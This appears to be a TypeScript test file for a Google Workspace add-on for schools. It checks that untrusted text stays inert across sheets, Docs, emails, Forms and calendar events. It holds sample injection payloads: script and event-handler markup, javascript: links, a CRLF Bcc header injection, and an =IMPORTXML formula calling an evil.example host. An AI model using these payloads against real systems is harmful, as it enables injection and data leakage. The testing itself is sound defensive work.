// Untrusted text in every field a person can type, carried by the built add-on into the sheet, agenda
// Docs, follow-up and survey emails, Forms, calendar events, the summary and report tabs and the
// importer: no payload becomes a formula, a mail header, a recipient, markup or a live link.
import type { AgendaResult, Directory, ImportPreview, ImportResult } from '../../src/shared/contract';
import { TABLES } from '../../src/shared/schema';
import {
  docProblems,
  eventProblems,
  formProblems,
  formulaProblems,
  htmlProblems,
  mailProblems,
} from './checks';
import { fixture, fresh, ok } from './fixture';
import { fit, PAYLOADS, type Payload } from './payloads';
import { answerSurvey, contactEmails, seedPayload, seedSchool, stored } from './seed-payloads';
import { tally } from '../report';

const { state, ctx } = fixture();
const DAY = 24 * 60 * 60 * 1000;
let payloadsTried = 0;
let fieldsFilled = 0;
const found = { formulas: 0, headers: 0, recipients: 0, markup: 0, links: 0 };

afterAll(() => {
  tally(
    `payloads tried: ${payloadsTried} (server side, ${fieldsFilled} fields), formulas: ${found.formulas}, ` +
      `header injections: ${found.headers}, stray recipients: ${found.recipients}, ` +
      `markup in mail: ${found.markup}, unsafe links: ${found.links}`,
  );
});

describe('the checks', () => {
  it('catch what they look for', () => {
    expect(htmlProblems('<p>Hi &lt;script&gt;</p><a href="https://x.example/?a=1&amp;b=2">x</a>')).toEqual(
      [],
    );
    expect(htmlProblems('<img src=x onerror="window.__pwned=1">')).toHaveLength(3);
    expect(htmlProblems('<script>window.__pwned=1</script>').length).toBeGreaterThan(0);
    expect(htmlProblems('<a href="javascript:window.__pwned=1">x</a>')).toHaveLength(1);
    expect(htmlProblems("<a href='#' onmouseover='x'>x</a>")).toHaveLength(2);
    const mail = {
      to: ['a@school.example'],
      cc: [],
      bcc: ['victim@evil.example'],
      subject: 'Subject\r\nBcc: victim@evil.example',
      body: '',
      htmlBody: '<svg onload=x>',
      name: null,
      replyTo: null,
      noReply: false,
      at: '',
    };
    expect(mailProblems([mail], new Set(['a@school.example']))).toHaveLength(4);
  });
});

describe.each(PAYLOADS.map((p) => [p.name, p]))('payload: %s', (_name: string, p: Payload) => {
  it('stays text in the sheet, the Docs, the emails, the Form and the calendar', () => {
    payloadsTried += 1;
    const addOn = fresh(state);
    seedSchool(addOn, p);
    const seeded = seedPayload(addOn, p, 0, ctx.partnerId);
    fieldsFilled += seeded.fields + 5;
    const { partner, gathering, survey, contactEmail } = seeded;
    const w = addOn.workspace;
    const gid = gathering.record.id;

    // Agendas: the built-in template, then the school's own template Doc with placeholders.
    const made = ok<AgendaResult>(addOn, 'makeAgenda', gid, false);
    expect(made.status).toBe('made');
    ok(addOn, 'saveSettings', { templates: { 'multi-partner gathering': ctx.templateDocId } });
    ok<AgendaResult>(addOn, 'makeAgenda', gid, true);
    // Partner and school Docs for people outside the sheet.
    ok(addOn, 'makePartnerDoc', 'vetting', partner.record.id);
    ok(addOn, 'makePartnerDoc', 'agreement', partner.record.id);
    ok(addOn, 'makeSchoolDoc', 'directory');
    ok(addOn, 'makeSchoolDoc', 'overview');
    ok(addOn, 'makeSchoolDoc', 'yearStaff');
    ok(addOn, 'makeSchoolDoc', 'yearPartners');

    // The calendar event, with invitations, and the follow-up email.
    ok(addOn, 'putOnCalendar', gid, true);
    // The follow-up goes once the gathering has been held: the day after it.
    w.clock.set(new Date(`${gathering.record.date}T15:00:00Z`));
    w.clock.advance(DAY);
    ok(addOn, 'markHeld', gid);
    const followUp = ok<{ sent: string[]; failed: unknown[] }>(addOn, 'sendFollowUp', gid);
    expect(followUp.failed).toEqual([]);
    expect(followUp.sent).toContain(contactEmail);

    // The survey: sent with the payload as subject and message, answered, reminded and summed up.
    answerSurvey(addOn, seeded, p, ctx.partnerId);
    ok(addOn, 'getSurvey', survey.record.id);
    ok(addOn, 'writeSurveySummary', survey.record.id);
    // The report for the principal, with the partners' names: their text is in it, as text.
    ok(addOn, 'makeSurveyReport', survey.record.id, true);
    w.clock.advance(8 * DAY);
    ok(addOn, 'remindSurvey', survey.record.id, 7, 50);

    // The report tabs built from partner, need and school text.
    ok(addOn, 'writeGapsTab');
    ok(addOn, 'writeDashboard');
    ok(addOn, 'getGaps');
    ok(addOn, 'reviewContext', partner.record.id);

    const intended = contactEmails(addOn);
    // No cell anywhere is a formula, the Form's response tab included.
    const formulas = formulaProblems(addOn, new Set<string>());
    const mailIssues = mailProblems(w.mail.sent, intended);
    const docs = docProblems(addOn);
    found.formulas += formulas.length;
    found.headers += mailIssues.filter((m) => /subject|sender/.test(m)).length;
    found.recipients += mailIssues.filter((m) => /recipients|cc or bcc|goes to|reply-to/.test(m)).length;
    found.markup += mailIssues.filter((m) => /HTML/.test(m)).length;
    found.links += docs.length;
    expect([
      ...formulas,
      ...mailIssues,
      ...docs,
      ...eventProblems(addOn, intended),
      ...formProblems(addOn),
    ]).toEqual([]);

    // The payload is kept as typed, as text: not a number, a date or a formula's result.
    const tab = w.inspect().tabs.find((t) => t.name === 'Partners');
    const nameAt = tab?.values[0].indexOf('Organization') ?? -1;
    const row = tab?.values.find((r) => r[0] === partner.record.id);
    expect(row?.[nameAt]).toBe(stored(TABLES.partners, 'name', p.text));
    const summary = w.inspect().tabs.find((t) => t.name === 'Survey Summary');
    // A leading apostrophe is kept too (F6: it was read as Sheets' text marker).
    expect(summary?.values.flat()).toContain(stored(TABLES.partners, 'name', p.text));

    // The calendar event is the gathering's text, as plain text.
    const [event] = w.calendar
      .inspect()
      .filter(
        (e) =>
          e.id ===
          ok<Directory>(addOn, 'getDirectory').gatherings.find((g) => g.record.id === gid)?.record.eventId,
      );
    expect(event?.title).toBe(stored(TABLES.gatherings, 'title', p.text));
    expect(event?.description.startsWith(stored(TABLES.gatherings, 'objectives', p.text))).toBe(true);
    // Every email's HTML has the payload only as escaped text.
    for (const m of w.mail.sent) expect(htmlProblems(m.htmlBody ?? '')).toEqual([]);
  });
});

describe('typed by hand in the sheet', () => {
  it('cells a person typed are read as text and carried out as text', () => {
    const addOn = fresh(state);
    const w = addOn.workspace;
    const ss = w.spreadsheet;
    // A person pastes payloads into the tabs: text cells (a leading apostrophe keeps = + - @ as text),
    // and links that are not web addresses where links belong.
    const byHeader = (tab: string, id: string, header: string, value: string) => {
      const sheet = ss.getSheetByName(tab);
      if (!sheet) throw new Error(`no tab ${tab}`);
      const values = sheet.getDataRange().getValues();
      const col = values[0].indexOf(header) + 1;
      const row = values.findIndex((r) => r[0] === id) + 1;
      if (col < 1 || row < 1) throw new Error(`no ${header} for ${id} in ${tab}`);
      sheet.getRange(row, col).setValues([[/^[=+\-@]/.test(value) ? `'${value}` : value]]);
    };
    byHeader('Partners', ctx.partnerId, 'Organization', '<img src=x onerror="window.__pwned=1">');
    byHeader('Partners', ctx.partnerId, 'Website', 'javascript:window.__pwned=1');
    byHeader('Partners', ctx.partnerId, 'Services', '=IMPORTXML("https://evil.example","//a")');
    // Typed on two lines (Alt+Enter): Doc names and event titles stay on one line (F8).
    byHeader('Gatherings', ctx.gatheringId, 'Title', '"><svg onload=window.__pwned=1>\n=1+1');
    byHeader('Gatherings', ctx.gatheringId, 'Agenda Doc', 'javascript:window.__pwned=1');
    byHeader('Gatherings', ctx.gatheringId, 'Objectives', '<a href="javascript:window.__pwned=1">agenda</a>');
    const contacts = ss.getSheetByName('Contacts');
    const cValues = contacts?.getDataRange().getValues() ?? [];
    const emailAt = cValues[0].indexOf('Email');
    const cRow = cValues.findIndex((r) => r[1] === ctx.partnerId);
    contacts?.getRange(cRow + 1, emailAt + 1).setValues([['victim@evil.example, other@evil.example']]);
    const typed = new Set(
      w
        .inspect()
        .tabs.flatMap((t) =>
          t.formulas.flatMap((r, i) => r.map((f, j) => (f ? `${t.name}!R${i + 1}C${j + 1}` : ''))),
        )
        .filter(Boolean),
    );

    // The agenda link typed by hand is not a link anywhere; the follow-up goes to real contacts only.
    ok(addOn, 'putOnCalendar', ctx.gatheringId, true);
    w.clock.set(new Date('2026-09-25T15:00:00Z'));
    ok(addOn, 'markHeld', ctx.gatheringId);
    ok(addOn, 'sendFollowUp', ctx.gatheringId);
    const followUps = w.mail.sent.length;
    expect(followUps).toBeGreaterThan(0);
    for (const m of w.mail.sent) expect(`${m.body} ${m.htmlBody}`).not.toMatch(/javascript:/i);
    expect(ok<AgendaResult>(addOn, 'makeAgenda', ctx.gatheringId, false)).toEqual({
      status: 'exists',
      url: 'javascript:window.__pwned=1',
    });
    // Making it again over a link that is not a Docs link makes a new Doc (F10: it failed).
    expect(ok<AgendaResult>(addOn, 'makeAgenda', ctx.gatheringId, true).status).toBe('made');
    ok(addOn, 'makeSchoolDoc', 'directory');
    ok(addOn, 'makePartnerDoc', 'agreement', ctx.partnerId);
    const intended = new Set([...contactEmails(addOn)].filter((e) => !/evil\.example/.test(e)));
    expect([
      ...formulaProblems(addOn, typed),
      ...mailProblems(w.mail.sent, intended),
      ...docProblems(addOn),
      ...eventProblems(addOn, intended),
    ]).toEqual([]);
    payloadsTried += 1;
  });

  it('a list imported from another tab stays text', () => {
    const addOn = fresh(state);
    const w = addOn.workspace;
    const source = w.spreadsheet.insertSheet('Payload list');
    // Typed as text: a leading apostrophe keeps = + - @ from becoming a formula in the source tab.
    const asTyped = (text: string) => (/^[=+\-@']/.test(text) ? `'${text}` : text);
    const rows = PAYLOADS.map((p, i) => [
      asTyped(fit(p.text, 200)),
      `imported${i}@partner.example`,
      asTyped(fit(p.text, 5000)),
      asTyped(p.text),
    ]);
    source.getRange(1, 1, rows.length + 1, 4).setValues([['Agency', 'E-mail', 'Notes', 'Website'], ...rows]);
    const mapping = { Agency: 'name', 'E-mail': 'contact.email', Notes: 'notes' };
    // A payload as the web address is an error on its row, never imported as a link.
    const preview = ok<ImportPreview>(addOn, 'previewImport', {
      tab: 'Payload list',
      mapping: { ...mapping, Website: 'website' },
    });
    PAYLOADS.forEach((p, i) => {
      const row = preview.rows.find((r) => r.sourceRow === i + 2);
      if (!/^https:\/\//.test(p.text)) expect(row?.action).toBe('error');
    });
    const result = ok<ImportResult>(addOn, 'runImport', { tab: 'Payload list', mapping });
    expect(result.errors).toBe(0);
    expect(result.added).toBeGreaterThan(0);
    const d = ok<Directory>(addOn, 'getDirectory');
    const names = new Set(d.partners.map((x) => x.record.name));
    const added = PAYLOADS.filter((p) => names.has(stored(TABLES.partners, 'name', p.text)));
    expect(added.length).toBe(result.added);
    expect(formulaProblems(addOn)).toEqual([]);
    fieldsFilled += PAYLOADS.length * 4;
  });
});
